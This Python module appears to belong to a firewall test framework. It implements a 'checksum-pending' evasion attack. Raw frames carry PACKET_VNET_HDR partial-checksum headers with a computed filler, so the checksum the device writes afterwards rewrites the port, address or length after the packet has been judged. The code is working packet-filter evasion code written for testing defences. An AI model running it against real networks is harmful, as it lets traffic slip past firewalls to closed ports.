"""Attacks by what a device does later: a packet changes after it was judged."""

import ctypes
import fcntl
import socket
import struct

from assault import ALLOWED, OPEN, UDP, Ether, Raw, attack
from places import socket_in, within
from stage import FRIEND, MALLORY

SOL_PACKET, PACKET_VNET_HDR = 263, 15
SIOCETHTOOL, ETHTOOL_STXCSUM, ETHTOOL_GTXCSUM = 0x8946, 0x17, 0x16


def transmit_checksums(a, link, value=None):
    """Whether a link of the host leaves checksums pending, after setting it if a value is given.

    A veth that doesn't writes them itself, as every network card does: `ethtool -K LINK tx off`.
    """
    def ask():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
            what = ETHTOOL_GTXCSUM if value is None else ETHTOOL_STXCSUM
            words = bytearray(struct.pack("II", what, value or 0))
            pinned = (ctypes.c_char * len(words)).from_buffer(words)
            request = struct.pack("16sP8x", link.encode(), ctypes.addressof(pinned))
            fcntl.ioctl(any_socket, SIOCETHTOOL, request)
            return struct.unpack("II", words)[1]

    return within(a.stage.host, ask)


def sum_of(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data[:len(data) // 2 * 2]))
    total += data[-1] << 8 if len(data) % 2 else 0
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return total


@attack("checksum-pending", reasons=("malformed",))
def checksum_pending(a):
    """Partial checksums (PACKET_VNET_HDR) that a device writes over ports and addresses: a port of
    friend's that is closed, bystander's address, another length."""
    link = f"rf-{FRIEND}"
    before = transmit_checksums(a, link)
    transmit_checksums(a, link, 0)
    a.callback(transmit_checksums, a, link, before)
    with socket_in(a.at, socket.AF_PACKET, socket.SOCK_RAW, 0, ("eth0", 0)) as sender:
        sender.setsockopt(SOL_PACKET, PACKET_VNET_HDR, 1)
        for target in a.both(FRIEND):
            header = 54 if ":" in target else 34
            # Where the sum starts, where it is written from there, what it shall write.
            for start, offset, wanted in ((header, 2, OPEN), (header, 0, 53), (header, 4, 9),
                                          (header - 6, 0, 13), (header - 2, 0, 12)):
                send_pending(a, sender, target, start, offset, wanted)
    for target in a.both(FRIEND):
        # Its checksum is pending where it belongs.
        a.udp(target, ALLOWED, kind="allowed")
    a.control_arrived("udp whose checksum a device writes to friend's open port")


def send_pending(a, sender, target, start, offset, wanted):
    """A datagram to friend's open port that turns into another one where the checksum is written."""
    def frame(filler):
        packet = a.ip(target) / UDP(sport=a.port(), dport=ALLOWED, chksum=0) / Raw(
            struct.pack("!H", filler) + text)
        return bytes(Ether(src=a.stage.mac[MALLORY], dst=a.stage.next_mac(FRIEND)) / packet)

    text = a.token() + b"." * 40
    # What is written is the complement of the sum: the filler makes it what is wanted.
    filler = (0xffff - sum_of(frame(0)[start:]) - wanted) % 0xffff
    try:
        sender.send(struct.pack("<BBHHHH", 1, 0, 0, 0, start, offset) + frame(filler))
    except OSError as error:
        a.note(f"send: {error.strerror}")
